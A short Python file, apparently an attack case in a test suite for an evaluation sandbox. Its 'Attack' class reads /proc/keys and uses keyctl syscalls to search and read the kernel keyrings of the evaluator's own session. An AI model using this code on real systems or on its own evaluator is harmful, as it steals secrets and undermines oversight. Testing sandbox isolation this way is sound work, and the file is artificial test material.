"""Reads the keys of the session that the evaluator was started in."""

import ctypes
from pathlib import Path

from aim import AIM, LIBC, attempt, grep, read

from run import ZEWDPCBaseRun

KEYCTL, SEARCH, READ, LINK = 250, 10, 11, 8
RINGS = (-1, -2, -3, -4, -5, -6, -7)


class Attack(ZEWDPCBaseRun):
    def purchase_phase(self, unlabelled_dataset):
        read("/proc/keys")
        numbers = {line.split()[0] for line in (attempt(Path("/proc/keys").read_text) or "").splitlines()}
        found = [LIBC.syscall(KEYCTL, SEARCH, ring, b"user", AIM["mark"].encode(), 0) for ring in RINGS]
        found += [ctypes.c_int(int(number, 16)).value for number in numbers]
        for key in (*RINGS, *found):
            held = ctypes.create_string_buffer(4096)
            if key != -1 and LIBC.syscall(KEYCTL, READ, key, held, 4096) > 0:
                grep(held.raw)
